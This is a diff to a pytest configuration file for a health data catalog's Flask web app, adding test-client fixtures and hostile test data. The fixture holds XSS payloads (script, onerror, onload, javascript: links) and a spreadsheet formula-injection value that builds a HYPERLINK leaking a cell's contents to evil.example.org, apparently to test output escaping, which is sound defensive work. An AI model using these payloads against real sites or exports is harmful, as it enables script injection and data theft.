@@ -9,6 +9,10 @@ from __future__ import annotations
 
 from pathlib import Path
 
+import pytest
+from flask import Flask
+from flask.testing import FlaskClient
+
 from catalog.config import Settings, SourceConfig
 from catalog.model import Agent, CodeList, Concept, Dataset, Variable, key_for
 from catalog.pipeline import harvest
@@ -16,16 +20,19 @@ from catalog.rdf import to_graph
 from catalog.search import open_backend
 from catalog.store import SQLiteStore
 from tests.factories import EU, HC, apgar_codes, mfr_dataset
+from web import create_app
 
 NPR = "https://data.helsedirektoratet.no/npr"
 SURVEY = "https://data.example.org/hunt"
 EVIL = "https://evil.example.org"
 XSS = {
-    "title": '<script>window.__xss = "title"; alert(1)</script>Fødselsvekt i skjema',
+    "title": '<script>window.__xss = "title"; alert(1)</script>Skjema for kroppsmål',
     "description": '<img src=x onerror="window.__xss = \'description\'">Vekt ved fødsel',
     "name": '"><svg onload="window.__xss=\'name\'">',
     "landing": "javascript:window.__xss='link'",
 }
+
+FORMULA = '=HYPERLINK("https://evil.example.org/?leak="&A1,"Klikk")'
 
 
 def npr_records() -> list:
@@ -75,7 +82,8 @@ def evil_dataset() -> Dataset:
                    description={"nb": XSS["description"]}, landing_page=XSS["landing"],
                    publisher=Agent(name={"nb": XSS["title"]}, url=XSS["landing"]),
                    variables=[Variable(uri=f"{EVIL}/variabel/V1", name=XSS["name"], title={"nb": XSS["title"]},
-                                       description={"nb": XSS["description"]}, unit=XSS["description"])])
+                                       description={"nb": XSS["description"]}, unit=XSS["description"]),
+                              Variable(uri=f"{EVIL}/variabel/V2", name="FORMULA", title={"nb": FORMULA})])
 
 
 SOURCES = {
@@ -103,5 +111,21 @@ def build(home: Path, server) -> Settings:  # type: ignore[no-untyped-def]
     return settings
 
 
+@pytest.fixture(scope="session")
+def web_settings(tmp_path_factory, _static_server) -> Settings:  # type: ignore[no-untyped-def]
+    return build(tmp_path_factory.mktemp("web") / "home", _static_server)
+
+
+@pytest.fixture(scope="session")
+def web_app(web_settings: Settings) -> Flask:
+    return create_app(web_settings)
+
+
+@pytest.fixture
+def client(web_app: Flask) -> FlaskClient:
+    return web_app.test_client()
+
+
 def vkey(uri: str) -> str:
+    """The id of a record or variable in page URLs."""
     return key_for(uri)
